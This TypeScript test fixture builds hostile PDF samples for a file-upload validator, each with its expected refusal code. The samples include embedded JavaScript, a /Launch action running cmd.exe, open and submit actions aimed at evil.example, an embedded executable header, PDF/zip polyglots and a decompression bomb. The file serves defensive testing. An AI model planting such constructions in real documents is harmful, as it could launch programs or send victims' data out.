import { deflateSync } from 'node:zlib';
import { join, latin1, zipOf } from './bytes.ts';
import { goodGif, goodPdf } from './good-files.ts';
import type { FileRefusal } from '@raccordo/files';
import { type HostileFile, MARKER } from './hostile-file.ts';

const pdf = (
  story: string,
  outcome: FileRefusal,
  content: HostileFile['content'],
): HostileFile => ({ story, kind: 'certification', content, outcome });

const packed = (objects: string): readonly (string | Uint8Array)[] => [
  '9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n',
  deflateSync(objects),
  '\nendstream endobj\n',
];

const ACTIVE = 'file.pdf_active_content';
const JAVASCRIPT = `<< /S /JavaScript /JS (app.alert('${MARKER}')) >>`;

export const HOSTILE_PDFS: readonly HostileFile[] = [
  pdf('a PDF with a script', ACTIVE, () => goodPdf(`9 0 obj ${JAVASCRIPT} endobj`)),
  pdf('a PDF with a script under an escaped name', ACTIVE, () =>
    goodPdf('9 0 obj << /S /J#61vaScript /J#53 (x) >> endobj'),
  ),
  pdf('a PDF with a script among packed objects', ACTIVE, () => goodPdf(...packed(JAVASCRIPT))),
  pdf('a PDF that acts when it is opened', ACTIVE, () =>
    goodPdf('9 0 obj << /OpenAction << /S /URI /URI (https://evil.example) >> >> endobj'),
  ),
  pdf('a PDF that acts when a page is shown', ACTIVE, () =>
    goodPdf('9 0 obj << /AA << /O 8 0 R >> >> endobj'),
  ),
  pdf('a PDF that starts a program', ACTIVE, () =>
    goodPdf('9 0 obj << /S /Launch /F (cmd.exe) >> endobj'),
  ),
  pdf('a PDF that carries a file', ACTIVE, () =>
    goodPdf('9 0 obj << /Type /EmbeddedFile >>\nstream\nMZ\nendstream endobj'),
  ),
  pdf('a PDF that sends a form', ACTIVE, () =>
    goodPdf('9 0 obj << /S /SubmitForm /F (https://evil.example) >> endobj'),
  ),
  pdf('a PDF with a dynamic form', ACTIVE, () => goodPdf('9 0 obj << /XFA 8 0 R >> endobj')),
  pdf('a PDF with a film', ACTIVE, () => goodPdf('9 0 obj << /Subtype /RichMedia >> endobj')),
  pdf('a PDF that is encrypted', 'file.pdf_encrypted', () =>
    goodPdf('9 0 obj << /Encrypt 8 0 R >> endobj'),
  ),
  pdf('a PDF that is an archive too', 'file.pdf_two_formats', () =>
    goodPdf(zipOf('a.js', latin1(MARKER))),
  ),
  pdf('a PDF with a page behind it', 'file.pdf_unreadable', () =>
    join(goodPdf(), `<script>alert('${MARKER}')</script>`),
  ),
  pdf('a PDF without an end', 'file.pdf_unreadable', () => goodPdf().subarray(0, 200)),
  pdf('a PDF whose packed objects grow without measure', 'file.pdf_unreadable', () =>
    goodPdf(...packed(' '.repeat(40 * 1024 * 1024))),
  ),
  pdf('a PDF with objects packed in an unusual way', 'file.pdf_unreadable', () =>
    goodPdf('9 0 obj << /Type /ObjStm /Filter /LZWDecode >>\nstream\nx\nendstream'),
  ),
  pdf('a PDF behind a GIF', 'file.image_unreadable', async () =>
    join((await goodGif()).subarray(0, 20), goodPdf()),
  ),
  pdf('a PDF that begins one line late', 'file.type_not_accepted', () => join('\n', goodPdf())),
  pdf('a PDF over the limit', 'file.too_large', () => goodPdf(' '.repeat(10 * 1024 * 1024))),
  {
    story: 'a PDF as a logo',
    kind: 'logo',
    content: () => goodPdf(),
    outcome: 'file.type_not_for_kind',
  },
];
